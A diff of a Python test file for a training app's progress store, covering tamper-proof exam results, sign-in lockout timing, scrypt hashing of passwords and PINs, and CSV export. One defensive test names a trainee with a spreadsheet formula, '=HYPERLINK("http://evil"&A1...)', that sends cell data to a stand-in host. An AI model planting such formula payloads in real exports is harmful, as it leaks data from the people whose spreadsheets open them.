@@ -10,7 +10,10 @@ import pytest
 
 from tests.progress.conftest import PASSWORD
 from trainer.progress import Store, StoreError
+from trainer.progress.database import connection as store_db
+from trainer.progress.database import writing
 from trainer.progress.exams.sittings import ExamPart, create_exam, start_sitting
+from trainer.progress.ledger import add_person, record_attempt
 from trainer.progress.people.accounts import NotAllowed, set_pin, sign_in
 from trainer.progress.people.credentials import (
     Secret,
@@ -37,7 +40,8 @@ def raw(store):
 @pytest.fixture
 def result(store, classroom):
     """The weakest exam result of the demo classroom."""
-    return store.db.execute("SELECT * FROM exam_results ORDER BY CAST(score_percent AS REAL) "
+    return store_db(store).execute(
+            "SELECT * FROM exam_results ORDER BY CAST(score_percent AS REAL) "
                             "LIMIT 1").fetchone()
 
 
@@ -50,10 +54,10 @@ def test_insert_or_replace_cannot_turn_a_failed_result_into_a_pass(store, result
 
 
 def test_insert_or_replace_cannot_change_an_exam_answer(store, classroom):
-    row = store.db.execute("SELECT * FROM attempts WHERE sitting_id IS NOT NULL "
+    row = store_db(store).execute("SELECT * FROM attempts WHERE sitting_id IS NOT NULL "
                            "LIMIT 1").fetchone()
     practice = list(row)
-    columns = [c[0] for c in store.db.execute("SELECT * FROM attempts LIMIT 0").description]
+    columns = [c[0] for c in store_db(store).execute("SELECT * FROM attempts LIMIT 0").description]
     practice[columns.index("sitting_id")] = None
     practice[columns.index("item_index")] = None
     practice[columns.index("correct")] = 1
@@ -101,23 +105,23 @@ def test_sign_in_pauses_after_failures_doubling_to_30_seconds(store, instructor)
     for _failure in range(8):
         with pytest.raises(NotAllowed, match="password"):
             sign_in(store, person, "wrong password", at=at)
-        waits.append(seconds_to_wait(store.db, person, at))
+        waits.append(seconds_to_wait(store_db(store), person, at))
         with pytest.raises(TooManyFailures, match="Try again in"):
             sign_in(store, person, PASSWORD, at=at + timedelta(seconds=waits[-1] - 0.5))
         at += timedelta(seconds=waits[-1])
     assert waits == [1, 2, 4, 8, 16, 30, 30, 30]
     sign_in(store, person, PASSWORD, at=at)  # on time, the right password: in, and reset
-    assert seconds_to_wait(store.db, person, at) == 0
-    logged = failures(store.db)
+    assert seconds_to_wait(store_db(store), person, at) == 0
+    logged = failures(store_db(store))
     assert len(logged) == 8 and {f.name for f in logged} == {"Mestre Lei"}
-    assert failures(store.db, 3) == logged[:3]  # the newest, as the desk shows them
-    assert failures(store.db, 8) == logged
+    assert failures(store_db(store), 3) == logged[:3]  # the newest, as the desk shows them
+    assert failures(store_db(store), 8) == logged
 
 
 def test_secrets_are_scrypt_hashes_of_a_fresh_16_byte_salt(store, instructor, ana):
     set_pin(store, instructor, ana.person.id, "2468")
     for table, secret in (("credentials", PASSWORD), ("pins", "2468")):
-        rows = store.db.execute(f"SELECT salt, hash, n, r, p FROM {table}").fetchall()
+        rows = store_db(store).execute(f"SELECT salt, hash, n, r, p FROM {table}").fetchall()
         [(salt, stored, n, r, p)] = rows
         assert (n, r, p) == (2**14, 8, 1) and len(bytes.fromhex(salt)) == 16
         assert bytes.fromhex(stored) == hash_secret(secret, bytes.fromhex(salt), n, r, p)
@@ -143,7 +147,7 @@ def test_a_pin_typed_by_a_trainee_who_has_none_is_not_right(store, ana):
 def test_a_stored_cost_above_the_most_is_refused_without_hashing(store, ana):
     salt = bytes(16)
     for n, believed in ((2**17, True), (2**18, False)):
-        with store.write() as db:
+        with writing(store) as db:
             db.execute("INSERT OR REPLACE INTO pins (person_id, salt, hash, n, r, p, set_at) "
                        "VALUES (?, ?, ?, ?, 8, 1, '2025-01-01T00:00:00.000Z')",
                        [ana.person.id, salt.hex(), hashlib.scrypt(
@@ -157,7 +161,7 @@ def test_every_cost_a_bundle_may_bring_is_checked_within_scrypts_memory_bound(st
     ``p`` up to 4): checking it gives the right answer, never scrypt's memory error."""
     salt = bytes(16)
     for minute, (n, r, p) in enumerate(((2, 1, 4), (2, 16, 4), (8, 1, 4), (4, 8, 2))):
-        with store.write() as db:
+        with writing(store) as db:
             db.execute("INSERT OR REPLACE INTO pins (person_id, salt, hash, n, r, p, set_at) "
                        "VALUES (?, ?, ?, ?, ?, ?, '2025-01-01T00:00:00.000Z')",
                        [ana.person.id, salt.hex(), hashlib.scrypt(
@@ -184,7 +188,7 @@ def test_a_pin_proves_the_trainee_and_an_exam_may_ask_for_it(store, instructor, 
     with pytest.raises(StoreError, match="Only trainees have a PIN"):
         set_pin(store, instructor, instructor.person.id, "2468")
     # Hashed, never in clear: no value anywhere in the database is the PIN.
-    assert not any("'97531864'" in line for line in store.db.conn.iterdump())
+    assert not any("'97531864'" in line for line in store_db(store).conn.iterdump())
 
 
 @pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x\"&A1,\"x\")", "+SUM(1,2)", "-2+3",
@@ -196,8 +200,8 @@ def test_spreadsheet_formulas_are_written_as_text(text):
 
 
 def test_a_trainee_named_like_a_formula_is_harmless_in_the_csv(store, instructor, tmp_path):
-    trainee = store.add_person("=HYPERLINK(\"http://evil\"&A1,\"x\")")
-    store.record_attempt(trainee.id, None, {"version": 1, "skill": "thirteen.first_seat",
+    trainee = add_person(store, "=HYPERLINK(\"http://evil\"&A1,\"x\")")
+    record_attempt(store, trainee.id, None, {"version": 1, "skill": "thirteen.first_seat",
                                             "seed": 1, "difficulty": 1}, 1, True, 1.0, 900)
     out = tmp_path / "attempts.csv"
     write_attempts_csv(store, instructor, out)
